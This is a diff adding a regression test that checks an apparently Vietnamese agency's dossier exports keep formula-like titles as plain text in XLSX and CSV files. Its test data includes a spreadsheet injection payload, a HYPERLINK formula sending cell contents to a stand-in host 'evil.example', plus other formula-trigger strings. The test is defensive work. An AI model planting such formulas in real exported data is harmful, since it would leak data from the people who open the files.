@@ -171,6 +171,24 @@ def test_exports_keep_vietnamese_text_in_xlsx_and_csv(client, two_agencies):
     assert {r[0] for r in overdue[1:]} == {"Dự án số hóa hồ sơ Hà Giang", "Dự án quá hạn Hải Phòng"}
 
 
+def test_a_title_written_like_a_formula_stays_text_in_the_exports(client, two_agencies):
+    """A drafter's title "=HYPERLINK(...)" went into the .xlsx as a formula, run by the Excel
+    of whoever opened the export."""
+    mine, _theirs = two_agencies
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+2", "@SUM(1;2)",
+               "-2+3"]
+    for title in hostile:
+        walked(mine, DONE, title=title)
+    login(client, make_user("secretary"))
+    response = client.get(url("export_dossiers", "xlsx", query="year=2024"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
+    assert all(cells[title] == "s" for title in hostile), cells  # text, shown as typed
+    lines = read_csv(client.get(url("export_dossiers", "csv", query="year=2024")))
+    assert {f"'{title}" for title in hostile} <= {line[1] for line in lines[1:]}
+    assert "Kế hoạch chuyển đổi số Hà Giang" in {line[1] for line in lines[1:]}  # as it was
+
+
 def test_the_interface_is_vietnamese_by_default_and_english_at_en(client, two_agencies):
     login(client, make_user("secretary"))
     vietnamese = client.get("/dashboard/").content.decode()
